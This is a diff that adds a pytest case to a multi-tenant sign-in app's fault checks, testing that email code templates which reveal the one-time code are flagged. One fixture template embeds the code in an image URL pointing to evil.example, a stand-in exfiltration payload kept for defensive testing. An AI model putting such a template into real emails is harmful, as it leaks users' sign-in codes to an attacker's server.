@@ -61,6 +61,20 @@ class TestFaults:
 
         assert acme.tenant.slug in message(examined(), "experience.I007")
 
+    def test_attack_AP49_each_message_that_tells_others_its_code_is_named(self, acme, undone):
+        allowed = {"purpose": "sign_in", "channel": "email", "language": "", "html": "<b>{code}</b>"}
+        refused = allowed | {"language": "de", "html": "<style></style>{code}"}
+        picture = allowed | {"purpose": "register", "html": "{code}<img src=https://evil.example/{code}>"}
+        with acme.active():
+            SignInExperience.objects.update(message_templates=[allowed, refused, picture])
+
+        found = message(examined(), "experience.W008")
+
+        slug = acme.tenant.slug
+        assert f"{slug} (sign_in email de: html must not contain the element <style> if it" in found
+        assert f"{slug} (register email any language: html may contain {{code}} only in" in found
+        assert "(sign_in email any language" not in found
+
     @pytest.mark.skipif(
         connection.vendor != "postgresql", reason="SQLite asks no connections and has no clock"
     )
